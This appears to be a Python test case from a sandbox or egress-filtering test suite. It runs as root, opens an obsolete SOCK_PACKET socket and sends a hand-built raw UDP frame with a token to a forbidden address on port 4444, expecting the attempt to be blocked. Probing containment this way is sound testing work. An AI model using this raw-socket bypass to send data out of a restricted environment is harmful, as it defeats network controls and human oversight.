#!/usr/bin/python3
# id: b06f_packet_obsolete
# title: a socket of the obsolete type SOCK_PACKET
# needs: root
# expect: block
# why: the kernel makes a packet socket of it, which sends in a way of its own
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    s = socket.socket(socket.AF_INET, 10, socket.htons(3)); frame = b'\xff' * 6 + b'\2' * 6 + b'\x08\0' + ip4(myip(), FORB, 17, udp4(myip(), FORB, 4444, P_UDP, TOK.encode()))
    to = b'\x11\0' + b'v0'.ljust(14, b'\0') + b'\x08\0'
    print(ctypes.CDLL(None).sendto(s.fileno(), frame, len(frame), 0, to, len(to)))
attempt(f, chan=('udp', 'pkt'))
